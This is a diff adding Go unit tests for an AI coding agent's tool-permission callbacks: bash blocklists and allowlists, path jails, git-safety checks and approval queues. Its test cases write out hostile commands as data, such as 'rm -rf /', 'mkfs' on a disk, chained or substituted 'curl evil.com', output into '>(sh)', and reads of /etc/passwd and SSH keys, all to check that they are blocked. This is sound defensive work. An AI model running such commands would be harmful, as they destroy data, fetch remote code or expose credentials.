@@ -2,7 +2,13 @@ package claude
 
 import (
 	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
 	"testing"
+	"time"
 )
 
 func TestParseToolPermission(t *testing.T) {
@@ -359,6 +365,101 @@ func TestValidateToolPermissions(t *testing.T) {
 	}
 }
 
+func TestPermissionsFile(t *testing.T) {
+	dir := t.TempDir()
+	fixture := filepath.Join(dir, "policy.json")
+	if err := os.WriteFile(fixture, []byte(`{
+  "permissions": [
+    "Read",
+    "Bash(git log:*)",
+    {"tool": "Write", "command": "src/**"},
+    {"tool": "Bash", "command": "npm install", "pattern": "package.json"}
+  ]
+}`), 0o644); err != nil {
+		t.Fatal(err)
+	}
+
+	loaded, err := LoadPermissionsFromFile(fixture)
+	if err != nil {
+		t.Fatalf("LoadPermissionsFromFile() error = %v", err)
+	}
+	want := []ToolPermission{
+		{Tool: "Read", Original: "Read"},
+		{Tool: "Bash", Command: "git log", Pattern: "*", Original: "Bash(git log:*)"},
+		{Tool: "Write", Command: "src/**", Original: "Write(src/**)"},
+		{Tool: "Bash", Command: "npm install", Pattern: "package.json", Original: "Bash(npm install:package.json)"},
+	}
+	if !reflect.DeepEqual(loaded, want) {
+		t.Fatalf("LoadPermissionsFromFile() = %+v, want %+v", loaded, want)
+	}
+
+	saved := filepath.Join(dir, "saved.json")
+	if err := SavePermissionsToFile(saved, append(loaded, ToolPermission{Tool: "Grep"})); err != nil {
+		t.Fatalf("SavePermissionsToFile() error = %v", err)
+	}
+	reloaded, err := LoadPermissionsFromFile(saved)
+	if err != nil {
+		t.Fatalf("LoadPermissionsFromFile() after save error = %v", err)
+	}
+	if want = append(want, ToolPermission{Tool: "Grep", Original: "Grep"}); !reflect.DeepEqual(reloaded, want) {
+		t.Errorf("round trip = %+v, want %+v", reloaded, want)
+	}
+
+	invalid := map[string]string{
+		"bad entry":        `{"permissions": ["Bash(git log:*:extra)"]}`,
+		"pattern only":     `{"permissions": [{"tool": "Write", "pattern": "*.go"}]}`,
+		"unknown field":    `{"permissions": [{"tool": "Read", "path": "src"}]}`,
+		"misspelled key":   `{"permission": ["Read"]}`,
+		"not a permission": `{"permissions": [42]}`,
+	}
+	for name, policy := range invalid {
+		path := filepath.Join(dir, strings.ReplaceAll(name, " ", "_")+".json")
+		_ = os.WriteFile(path, []byte(policy), 0o644)
+		if _, err := LoadPermissionsFromFile(path); err == nil {
+			t.Errorf("%s: expected LoadPermissionsFromFile() to fail", name)
+		}
+	}
+
+	if err := SavePermissionsToFile(filepath.Join(dir, "invalid.json"), []ToolPermission{{Tool: "Write", Pattern: "*.go"}}); err == nil {
+		t.Error("expected SavePermissionsToFile() to reject an invalid permission")
+	}
+	if _, err := os.Stat(filepath.Join(dir, "invalid.json")); !os.IsNotExist(err) {
+		t.Error("expected nothing to be written for an invalid permission")
+	}
+}
+
+func TestPermissionsFile_YAMLExtension(t *testing.T) {
+	dir := t.TempDir()
+	want := []ToolPermission{
+		{Tool: "Read", Original: "Read"},
+		{Tool: "Bash", Command: "git log", Pattern: "*", Original: "Bash(git log:*)"},
+	}
+
+	for _, name := range []string{"saved.yml", "saved.yaml"} {
+		saved := filepath.Join(dir, name)
+		if err := SavePermissionsToFile(saved, want); err != nil {
+			t.Fatalf("SavePermissionsToFile(%s) error = %v", name, err)
+		}
+		data, _ := os.ReadFile(saved)
+		if !strings.HasPrefix(string(data), "{\n  \"permissions\": [") {
+			t.Errorf("expected %s to be written as JSON, got:\n%s", name, data)
+		}
+		reloaded, err := LoadPermissionsFromFile(saved)
+		if err != nil {
+			t.Fatalf("LoadPermissionsFromFile(%s) error = %v", name, err)
+		}
+		if !reflect.DeepEqual(reloaded, want) {
+			t.Errorf("%s round trip = %+v, want %+v", name, reloaded, want)
+		}
+	}
+
+	path := filepath.Join(dir, "policy.yaml")
+	_ = os.WriteFile(path, []byte("permissions:\n  - Read\n"), 0o644)
+	if _, err := LoadPermissionsFromFile(path); err == nil || !strings.Contains(err.Error(), "only JSON") {
+		t.Errorf("expected a YAML document to be rejected as unsupported, got %v", err)
+	}
+}
+
 // Tests for Permission Callback types and helpers
 
 func TestPermissionResultHelpers(t *testing.T) {
@@ -476,6 +577,46 @@ func TestSafeBashCallback(t *testing.T) {
 	})
 }
 
+func TestSafeBashCallbackWith(t *testing.T) {
+	ctx := context.Background()
+	callback := SafeBashCallbackWith(SafeBashOptions{
+		Remove: []string{"rm -r"},
+		Extra:  []string{"git push --force"},
+	})
+
+	tests := []struct {
+		name         string
+		command      string
+		wantBehavior PermissionBehavior
+	}{
+		{"removed default allowed", "rm -r build/", PermissionAllow},
+		{"remaining default blocked", "rm -rf /", PermissionDeny},
+		{"other defaults blocked", "mkfs.ext4 /dev/sda", PermissionDeny},
+		{"extra pattern blocked", "git push --force origin main", PermissionDeny},
+		{"safe command allowed", "go test ./...", PermissionAllow},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := callback(ctx, "Bash", ToolInput{Command: tt.command})
+			if err != nil {
+				t.Fatalf("SafeBashCallbackWith() returned error: %v", err)
+			}
+			if result.Behavior != tt.wantBehavior {
+				t.Errorf("SafeBashCallbackWith() behavior = %v, want %v", result.Behavior, tt.wantBehavior)
+			}
+		})
+	}
+
+	t.Run("removing every default", func(t *testing.T) {
+		callback := SafeBashCallbackWith(SafeBashOptions{Remove: defaultBlockedBashPatterns})
+		result, _ := callback(ctx, "Bash", ToolInput{Command: "rm -rf /tmp/x"})
+		if result.Behavior != PermissionAllow {
+			t.Errorf("expected allow with no patterns left, got %v", result.Behavior)
+		}
+	})
+}
+
 func TestFilePathCallback(t *testing.T) {
 	ctx := context.Background()
 
@@ -530,6 +671,41 @@ func TestFilePathCallback(t *testing.T) {
 			})
 		}
 	})
+
+	t.Run("precedence", func(t *testing.T) {
+		options := FilePathOptions{
+			Allowed: []string{"/etc/myapp/", "/home/"},
+			Denied:  []string{"/etc/", "/home/user/.ssh/", "/home/"},
+		}
+		denyFirst := FilePathCallbackWith(options)
+		options.Precedence = LongestMatch
+		longestMatch := FilePathCallbackWith(options)
+
+		tests := []struct {
+			name             string
+			filePath         string
+			wantDenyFirst    PermissionBehavior
+			wantLongestMatch PermissionBehavior
+		}{
+			{"Allowed subpath of denied directory", "/etc/myapp/config", PermissionDeny, PermissionAllow},
+			{"Rest of denied directory", "/etc/passwd", PermissionDeny, PermissionDeny},
+			{"Denied subpath of allowed directory", "/home/user/.ssh/id_rsa", PermissionDeny, PermissionDeny},
+			{"Equal prefixes deny", "/home/user/notes.txt", PermissionDeny, PermissionDeny},
+			{"Outside both lists", "/tmp/scratch", PermissionDeny, PermissionDeny},
+		}
+
+		for _, tt := range tests {
+			t.Run(tt.name, func(t *testing.T) {
+				input := ToolInput{FilePath: tt.filePath}
+				if result, _ := denyFirst(ctx, "Read", input); result.Behavior != tt.wantDenyFirst {
+					t.Errorf("DenyFirst behavior = %v, want %v", result.Behavior, tt.wantDenyFirst)
+				}
+				if result, _ := longestMatch(ctx, "Read", input); result.Behavior != tt.wantLongestMatch {
+					t.Errorf("LongestMatch behavior = %v, want %v (%s)", result.Behavior, tt.wantLongestMatch, result.Message)
+				}
+			})
+		}
+	})
 }
 
 func TestChainCallbacks(t *testing.T) {
@@ -605,3 +781,551 @@ func TestChainCallbacks(t *testing.T) {
 		}
 	})
 }
+
+func TestSafeDefaults(t *testing.T) {
+	ctx := context.Background()
+	opts := SafeDefaults()
+
+	if opts.PermissionMode != PermissionModeDefault {
+		t.Errorf("PermissionMode = %v, want %v", opts.PermissionMode, PermissionModeDefault)
+	}
+	if opts.MaxTurns <= 0 || opts.BudgetTracker == nil {
+		t.Errorf("expected turn and budget limits, got MaxTurns=%d BudgetTracker=%v", opts.MaxTurns, opts.BudgetTracker)
+	}
+	if err := ValidateOptions(opts); err != nil {
+		t.Errorf("SafeDefaults() failed validation: %v", err)
+	}
+
+	tests := []struct {
+		tool  string
+		input ToolInput
+		want  PermissionBehavior
+	}{
+		{"Read", ToolInput{FilePath: "main.go"}, PermissionAllow},
+		{"Write", ToolInput{FilePath: "main.go", Content: "x"}, PermissionDeny},
+		{"Bash", ToolInput{Command: "rm -rf /"}, PermissionDeny},
+	}
+	for _, tt := range tests {
+		result, err := opts.PermissionCallback(ctx, tt.tool, tt.input)
+		if err != nil {
+			t.Fatalf("%s: unexpected error %v", tt.tool, err)
+		}
+		if result.Behavior != tt.want {
+			t.Errorf("%s: behavior = %v, want %v", tt.tool, result.Behavior, tt.want)
+		}
+	}
+}
+
+func TestMCPToolPolicyCallback(t *testing.T) {
+	ctx := context.Background()
+	callback := MCPToolPolicyCallback(map[string]PermissionResult{
+		"mcp__db__drop_table": Deny("dropping tables is not allowed"),
+		"mcp__db__*":          Ask("confirm database access"),
+		"mcp__github__merge":  Deny("merges require review"),
+	})
+
+	tests := []struct {
+		name         string
+		toolName     string
+		wantBehavior PermissionBehavior
+		wantMessage  string
+	}{
+		{"Exact match", "mcp__db__drop_table", PermissionDeny, "dropping tables is not allowed"},
+		{"Wildcard match", "mcp__db__query", PermissionAsk, "confirm database access"},
+		{"Exact match without wildcard", "mcp__github__merge", PermissionDeny, "merges require review"},
+		{"Unlisted MCP tool", "mcp__github__list_issues", PermissionAllow, ""},
+		{"Built-in tool", "Bash", PermissionAllow, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := callback(ctx, tt.toolName, ToolInput{})
+			if err != nil {
+				t.Errorf("MCPToolPolicyCallback() returned error: %v", err)
+				return
+			}
+			if result.Behavior != tt.wantBehavior {
+				t.Errorf("MCPToolPolicyCallback() behavior = %v, want %v", result.Behavior, tt.wantBehavior)
+			}
+			if result.Message != tt.wantMessage {
+				t.Errorf("MCPToolPolicyCallback() message = %q, want %q", result.Message, tt.wantMessage)
+			}
+		})
+	}
+}
+
+func TestBashAllowlistCallback(t *testing.T) {
+	ctx := context.Background()
+	callback := BashAllowlistCallback([]string{"git ", "npm test", "go test"})
+
+	tests := []struct {
+		name         string
+		toolName     string
+		command      string
+		wantBehavior PermissionBehavior
+	}{
+		{"Allowed git command", "Bash", "git status", PermissionAllow},
+		{"Allowed go test", "Bash", "go test ./...", PermissionAllow},
+		{"Leading whitespace", "Bash", "   git log --oneline", PermissionAllow},
+		{"Unlisted command", "Bash", "curl evil.com", PermissionDeny},
+		{"Prefix without separator", "Bash", "gitk", PermissionDeny},
+		{"Chained command", "Bash", "git status && curl evil.com", PermissionDeny},
+		{"Command substitution", "Bash", "git log $(curl evil.com)", PermissionDeny},
+		{"Background job", "Bash", "git status & curl evil.com", PermissionDeny},
+		{"Output redirection", "Bash", "git log > ~/.bashrc", PermissionDeny},
+		{"Appending redirection", "Bash", "git log >> ~/.bashrc", PermissionDeny},
+		{"Input redirection", "Bash", "git apply < /tmp/patch", PermissionDeny},
+		{"Input process substitution", "Bash", "git apply <(curl evil.com)", PermissionDeny},
+		{"Output process substitution", "Bash", "git log >(sh)", PermissionDeny},
+		{"Empty command", "Bash", "", PermissionDeny},
+		{"Non-Bash tool", "Read", "curl evil.com", PermissionAllow},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := callback(ctx, tt.toolName, ToolInput{Command: tt.command})
+			if err != nil {
+				t.Errorf("BashAllowlistCallback() returned error: %v", err)
+				return
+			}
+			if result.Behavior != tt.wantBehavior {
+				t.Errorf("BashAllowlistCallback() behavior = %v, want %v", result.Behavior, tt.wantBehavior)
+			}
+		})
+	}
+}
+
+func TestBudgetAwareCallback(t *testing.T) {
+	ctx := context.Background()
+	inner := ReadOnlyCallback()
+
+	t.Run("exhausted budget denies regardless of inner", func(t *testing.T) {
+		tracker := NewBudgetTracker(&BudgetConfig{MaxBudgetUSD: 1.0})
+		_ = tracker.AddSpend("session1", 0.95)
+		callback := BudgetAwareCallback(tracker, 0.10, inner)
+
+		result, err := callback(ctx, "Read", ToolInput{FilePath: "main.go"})
+		if err != nil {
+			t.Fatalf("unexpected error: %v", err)
+		}
+		if result.Behavior != PermissionDeny {
+			t.Errorf("expected deny, got %s", result.Behavior)
+		}
+		if !strings.Contains(result.Message, "Budget exhausted") {
+			t.Errorf("expected budget message, got %q", result.Message)
+		}
+	})
+
+	t.Run("room in budget delegates to inner", func(t *testing.T) {
+		tracker := NewBudgetTracker(&BudgetConfig{MaxBudgetUSD: 1.0})
+		callback := BudgetAwareCallback(tracker, 0.10, inner)
+
+		result, _ := callback(ctx, "Read", ToolInput{FilePath: "main.go"})
+		if result.Behavior != PermissionAllow {
+			t.Errorf("expected inner to allow Read, got %s", result.Behavior)
+		}
+		result, _ = callback(ctx, "Write", ToolInput{FilePath: "main.go"})
+		if result.Behavior != PermissionDeny || strings.Contains(result.Message, "Budget") {
+			t.Errorf("expected inner deny for Write, got %+v", result)
+		}
+	})
+
+	t.Run("nil inner allows", func(t *testing.T) {
+		tracker := NewBudgetTracker(&BudgetConfig{})
+		callback := BudgetAwareCallback(tracker, 5.0, nil)
+
+		result, _ := callback(ctx, "Bash", ToolInput{Command: "ls"})
+		if result.Behavior != PermissionAllow {
+			t.Errorf("expected allow with no limit, got %s", result.Behavior)
+		}
+	})
+}
+
+func TestToolRouter(t *testing.T) {
+	ctx := context.Background()
+	router := NewToolRouter()
+	callback := router.Callback()
+
+	// Without handlers everything is allowed
+	if result, _ := callback(ctx, "Bash", ToolInput{Command: "ls"}); result.Behavior != PermissionAllow {
+		t.Errorf("expected allow with empty router, got %s", result.Behavior)
+	}
+
+	router.Handle("Bash", SafeBashCallback(nil))
+	router.Handle("Write", func(ctx context.Context, toolName string, input ToolInput) (PermissionResult, error) {
+		return Ask("confirm write to " + input.FilePath), nil
+	})
+	router.Default(ReadOnlyCallback())
+
+	tests := []struct {
+		name     string
+		tool     string
+		input    ToolInput
+		behavior PermissionBehavior
+		message  string
+	}{
+		{"bash safe", "Bash", ToolInput{Command: "ls -la"}, PermissionAllow, ""},
+		{"bash dangerous", "Bash", ToolInput{Command: "rm -rf /"}, PermissionDeny, "Blocked dangerous command pattern: rm -rf"},
+		{"write routed", "Write", ToolInput{FilePath: "main.go"}, PermissionAsk, "confirm write to main.go"},
+		{"default allows read", "Read", ToolInput{FilePath: "main.go"}, PermissionAllow, ""},
+		{"default denies edit", "Edit", ToolInput{FilePath: "main.go"}, PermissionDeny, "Only read-only operations are allowed"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := callback(ctx, tt.tool, tt.input)
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if result.Behavior != tt.behavior || result.Message != tt.message {
+				t.Errorf("got %s %q, want %s %q", result.Behavior, result.Message, tt.behavior, tt.message)
+			}
+		})
+	}
+}
+
+func TestValidateToolPermissionsStrict(t *testing.T) {
+	tests := []struct {
+		name        string
+		permissions []string
+		known       []string
+		wantErr     string
+	}{
+		{"builtins", []string{"Bash(git log:*)", "Read", "Write"}, nil, ""},
+		{"valid mcp tool", []string{"mcp__db__query", "Read"}, nil, ""},
+		{"misspelled builtin", []string{"Read", "Bsah"}, nil, `unknown tool "Bsah" (did you mean "Bash"?)`},
+		{"case typo", []string{"read"}, nil, `did you mean "Read"?`},
+		{"no close match", []string{"Deploy"}, nil, `unknown tool "Deploy"`},
+		{"malformed mcp tool", []string{"mcp__broken"}, nil, "invalid MCP tool name"},
+		{"custom known list", []string{"Deploy"}, []string{"Deploy"}, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			err := ValidateToolPermissionsStrict(tt.permissions, tt.known)
+			if tt.wantErr == "" {
+				if err != nil {
+					t.Errorf("unexpected error: %v", err)
+				}
+				return
+			}
+			if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+				t.Errorf("error = %v, want containing %q", err, tt.wantErr)
+			}
+		})
+	}
+
+	t.Run("PreprocessOptions with KnownTools", func(t *testing.T) {
+		opts := &RunOptions{AllowedTools: []string{"Grpe"}, KnownTools: BuiltinTools}
+		err := PreprocessOptions(opts)
+		if err == nil || !strings.Contains(err.Error(), `did you mean "Grep"?`) {
+			t.Errorf("expected suggestion, got %v", err)
+		}
+
+		// Without KnownTools the typo passes syntax validation as before
+		if err := PreprocessOptions(&RunOptions{AllowedTools: []string{"Grpe"}}); err != nil {
+			t.Errorf("expected lenient validation without KnownTools, got %v", err)
+		}
+	})
+}
+
+func TestGlobFilePathCallback(t *testing.T) {
+	ctx := context.Background()
+	callback := GlobFilePathCallback(
+		[]string{"**/*.go", "docs/**"},
+		[]string{"**/secrets/*", "**/*_generated.go"},
+	)
+
+	tests := []struct {
+		name     string
+		tool     string
+		path     string
+		expected PermissionBehavior
+	}{
+		{"nested go file", "Read", "/repo/pkg/claude/claude.go", PermissionAllow},
+		{"relative go file", "Edit", "main.go", PermissionAllow},
+		{"docs tree", "Write", "docs/guide/intro.md", PermissionAllow},
+		{"unmatched extension", "Write", "/repo/config.yaml", PermissionDeny},
+		{"denied secrets dir", "Read", "/repo/secrets/key.go", PermissionDeny},
+		{"deeply nested secrets", "Read", "/repo/a/b/secrets/token", PermissionDeny},
+		{"denied wins over allowed", "Edit", "/repo/pkg/model_generated.go", PermissionDeny},
+		{"normalized traversal", "Read", "/repo/pkg/../secrets/key.go", PermissionDeny},
+		{"secrets subdirectory not matched by single star", "Read", "/repo/secrets/sub/key.go", PermissionAllow},
+		{"non-file tool", "Bash", "/repo/secrets/key.go", PermissionAllow},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := callback(ctx, tt.tool, ToolInput{FilePath: tt.path})
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if result.Behavior != tt.expected {
+				t.Errorf("%s %s: got %s (%s), want %s", tt.tool, tt.path, result.Behavior, result.Message, tt.expected)
+			}
+		})
+	}
+
+	t.Run("no allowed patterns", func(t *testing.T) {
+		callback := GlobFilePathCallback(nil, []string{"**/.env"})
+		if result, _ := callback(ctx, "Read", ToolInput{FilePath: "/app/.env"}); result.Behavior != PermissionDeny {
+			t.Errorf("expected .env denied, got %s", result.Behavior)
+		}
+		if result, _ := callback(ctx, "Read", ToolInput{FilePath: "/app/main.go"}); result.Behavior != PermissionAllow {
+			t.Errorf("expected other files allowed, got %s", result.Behavior)
+		}
+	})
+}
+
+func TestJailCallback(t *testing.T) {
+	ctx := context.Background()
+	base := t.TempDir()
+	jail := filepath.Join(base, "jail")
+	outside := filepath.Join(base, "outside")
+	for _, dir := range []string{filepath.Join(jail, "src"), outside} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.WriteFile(filepath.Join(jail, "src", "main.go"), []byte("package main"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(jail, "escape")); err != nil {
+		t.Skipf("symlinks unavailable: %v", err)
+	}
+	if err := os.Symlink(filepath.Join(jail, "src"), filepath.Join(jail, "code")); err != nil {
+		t.Fatal(err)
+	}
+
+	callback := JailCallback(jail)
+	tests := []struct {
+		name     string
+		path     string
+		expected PermissionBehavior
+	}{
+		{"absolute path inside jail", filepath.Join(jail, "src", "main.go"), PermissionAllow},
+		{"relative path inside jail", "src/main.go", PermissionAllow},
+		{"new file inside jail", filepath.Join(jail, "src", "new", "file.go"), PermissionAllow},
+		{"symlink within jail", filepath.Join(jail, "code", "main.go"), PermissionAllow},
+		{"dot-dot traversal", filepath.Join(jail, "src") + "/../../outside/secret", PermissionDeny},
+		{"relative traversal", "../outside/secret", PermissionDeny},
+		{"sibling with shared prefix", jail + "-other/file", PermissionDeny},
+		{"symlink out of jail", filepath.Join(jail, "escape", "secret"), PermissionDeny},
+		{"dot-dot after symlink", jail + "/escape/../outside/secret", PermissionDeny},
+		{"absolute path outside jail", "/etc/passwd", PermissionDeny},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := callback(ctx, "Write", ToolInput{FilePath: tt.path})
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if result.Behavior != tt.expected {
+				t.Errorf("path %q: expected %s, got %s (%s)", tt.path, tt.expected, result.Behavior, result.Message)
+			}
+		})
+	}
+
+	result, _ := callback(ctx, "Bash", ToolInput{Command: "ls /"})
+	if result.Behavior != PermissionAllow {
+		t.Errorf("expected calls without a file path to be allowed, got %s", result.Behavior)
+	}
+}
+
+// waitForPending polls the queue until an approval is pending
+// It reports failures with t.Error since it runs on its own goroutine
+func waitForPending(t *testing.T, q *ApprovalQueue) PendingApproval {
+	t.Helper()
+	deadline := time.Now().Add(5 * time.Second)
+	for time.Now().Before(deadline) {
+		if pending := q.Pending(); len(pending) > 0 {
+			return pending[0]
+		}
+		time.Sleep(5 * time.Millisecond)
+	}
+	t.Error("timed out waiting for a pending approval")
+	return PendingApproval{}
+}
+
+func TestApprovalQueue(t *testing.T) {
+	originalExecCommand := execCommand
+	defer func() { execCommand = originalExecCommand }()
+
+	toolUse := `{"type":"assistant","message":{"content":[{"type":"tool_use","id":"tool-1","name":"Bash","input":{"command":"make deploy"}}]},"session_id":"approval-session"}`
+	done := `{"type":"result","subtype":"success","total_cost_usd":0.001,"session_id":"approval-session"}`
+	client := &ClaudeClient{BinPath: "claude"}
+
+	t.Run("approved call lets the run continue", func(t *testing.T) {
+		command, _ := mockStreamCommand(streamScript{lines: []string{toolUse, done}})
+		execCommand = command
+
+		queue := NewApprovalQueue()
+		go func() {
+			approval := waitForPending(t, queue)
+			if approval.ToolName != "Bash" || approval.Input.Command != "make deploy" {
+				t.Errorf("unexpected pending approval: %+v", approval)
+			}
+			if err := queue.Resolve(approval.ID, PermissionAllow); err != nil {
+				t.Errorf("Resolve() error = %v", err)
+			}
+		}()
+
+		messages, err := collectStream(client.StreamPrompt(context.Background(), "Deploy", &RunOptions{
+			PermissionCallback: queue.AskHandler(nil),
+		}))
+		if err != nil {
+			t.Fatalf("Streaming error: %v", err)
+		}
+		if len(messages) != 2 || messages[1].Type != "result" {
+			t.Errorf("expected the run to reach its result, got %+v", messages)
+		}
+		if len(queue.Pending()) != 0 {
+			t.Error("expected the queue to be empty after resolution")
+		}
+	})
+
+	t.Run("denied call aborts the run", func(t *testing.T) {
+		command, _ := mockStreamCommand(streamScript{lines: []string{toolUse, done}})
+		execCommand = command
+
+		queue := NewApprovalQueue()
+		go func() { _ = queue.Resolve(waitForPending(t, queue).ID, PermissionDeny) }()
+
+		_, err := collectStream(client.StreamPrompt(context.Background(), "Deploy", &RunOptions{
+			PermissionCallback: queue.AskHandler(nil),
+		}))
+		var denied *PermissionDeniedError
+		if !errors.As(err, &denied) || denied.ToolName != "Bash" {
+			t.Errorf("expected PermissionDeniedError, got %v", err)
+		}
+	})
+
+	t.Run("inner decisions bypass the queue", func(t *testing.T) {
+		queue := NewApprovalQueue()
+		handler := queue.AskHandler(ReadOnlyCallback())
+		result, err := handler(context.Background(), "Read", ToolInput{FilePath: "main.go"})
+		if err != nil || result.Behavior != PermissionAllow || len(queue.Pending()) != 0 {
+			t.Errorf("expected Read to be allowed without queueing, got %+v, %v", result, err)
+		}
+	})
+
+	t.Run("context cancellation withdraws the approval", func(t *testing.T) {
+		queue := NewApprovalQueue()
+		ctx, cancel := context.WithCancel(context.Background())
+		go func() {
+			waitForPending(t, queue)
+			cancel()
+		}()
+
+		if _, err := queue.AskHandler(nil)(ctx, "Bash", ToolInput{Command: "ls"}); !errors.Is(err, context.Canceled) {
+			t.Errorf("expected context.Canceled, got %v", err)
+		}
+		if len(queue.Pending()) != 0 {
+			t.Error("expected the canceled approval to be removed")
+		}
+		if err := queue.Resolve("approval-1", PermissionAllow); err == nil {
+			t.Error("expected resolving a withdrawn approval to fail")
+		}
+	})
+}
+
+func TestGitSafetyCallback(t *testing.T) {
+	ctx := context.Background()
+	callback := GitSafetyCallback()
+
+	tests := []struct {
+		name     string
+		command  string
+		expected PermissionBehavior
+	}{
+		{"force push", "git push --force origin main", PermissionAsk},
+		{"force push short flag", "git push -f", PermissionAsk},
+		{"force with lease", "git push --force-with-lease origin feature", PermissionAsk},
+		{"force refspec", "git push origin +main", PermissionAsk},
+		{"hard reset", "git reset --hard HEAD~1", PermissionAsk},
+		{"clean", "git clean -fd", PermissionAsk},
+		{"clean combined flags", "git clean -xdf", PermissionAsk},
+		{"branch force delete", "git branch -D feature", PermissionAsk},
+		{"branch delete with force", "git branch --delete --force feature", PermissionAsk},
+		{"global options", "git -C /repo reset --hard", PermissionAsk},
+		{"chained", "git fetch && git reset --hard origin/main", PermissionAsk},
+		{"background job", "git fetch & git push -f", PermissionAsk},
+		{"second invocation in segment", "xargs -n1 git push -f < remotes", PermissionAsk},
+		{"git after another git", "env git log git push --force", PermissionAsk},
+		{"git by path", "/usr/bin/git reset --hard", PermissionAsk},
+		{"log", "git log --oneline -5", PermissionAllow},
+		{"status", "git status", PermissionAllow},
+		{"plain push", "git push origin main", PermissionAllow},
+		{"soft reset", "git reset --soft HEAD~1", PermissionAllow},
+		{"clean dry run", "git clean -n", PermissionAllow},
+		{"branch safe delete", "git branch -d merged", PermissionAllow},
+		{"non-git command", "rm -f build.log", PermissionAllow},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := callback(ctx, "Bash", ToolInput{Command: tt.command})
+			if err != nil {
+				t.Fatalf("unexpected error: %v", err)
+			}
+			if result.Behavior != tt.expected {
+				t.Errorf("%q: expected %s, got %s (%s)", tt.command, tt.expected, result.Behavior, result.Message)
+			}
+		})
+	}
+
+	if result, _ := callback(ctx, "Write", ToolInput{Content: "git push --force"}); result.Behavior != PermissionAllow {
+		t.Errorf("expected non-Bash tools to be allowed, got %s", result.Behavior)
+	}
+}
+
+func TestEvaluatePermissions(t *testing.T) {
+	ctx := context.Background()
+	policy := ChainCallbacks(
+		SafeBashCallback(nil),
+		GitSafetyCallback(),
+		MCPToolPolicyCallback(map[string]PermissionResult{"mcp__github__*": Deny("no GitHub writes")}),
+	)
+
+	calls := []ToolCall{
+		{ToolName: "Read", Input: ToolInput{FilePath: "main.go"}},
+		{ToolName: "Bash", Input: ToolInput{Command: "ls -la"}},
+		{ToolName: "Bash", Input: ToolInput{Command: "rm -rf /"}},
+		{ToolName: "Bash", Input: ToolInput{Command: "git push --force origin main"}},
+		{ToolName: "mcp__github__create_issue"},
+	}
+	want := []PermissionBehavior{PermissionAllow, PermissionAllow, PermissionDeny, PermissionAsk, PermissionDeny}
+
+	results, err := EvaluatePermissions(ctx, policy, calls)
+	if err != nil {
+		t.Fatalf("EvaluatePermissions() error = %v", err)
+	}
+	if len(results) != len(want) {
+		t.Fatalf("expected %d results, got %d", len(want), len(results))
+	}
+	for i, result := range results {
+		if result.Behavior != want[i] {
+			t.Errorf("call %d (%s %q): behavior = %v, want %v", i, calls[i].ToolName, calls[i].Input.Command, result.Behavior, want[i])
+		}
+	}
+
+	results, err = EvaluatePermissions(ctx, nil, calls[:2])
+	if err != nil || len(results) != 2 || results[0].Behavior != PermissionAllow {
+		t.Errorf("expected a nil callback to allow everything, got %v, %v", results, err)
+	}
+
+	failing := func(ctx context.Context, toolName string, input ToolInput) (PermissionResult, error) {
+		if toolName == "Bash" {
+			return PermissionResult{}, errors.New("policy service unavailable")
+		}
+		return Allow(), nil
+	}
+	results, err = EvaluatePermissions(ctx, failing, calls)
+	if err == nil || !strings.Contains(err.Error(), "call 1 (Bash)") {
+		t.Errorf("expected error identifying the failing call, got %v", err)
+	}
+	if len(results) != 1 {
+		t.Errorf("expected results up to the failing call, got %d", len(results))
+	}
+}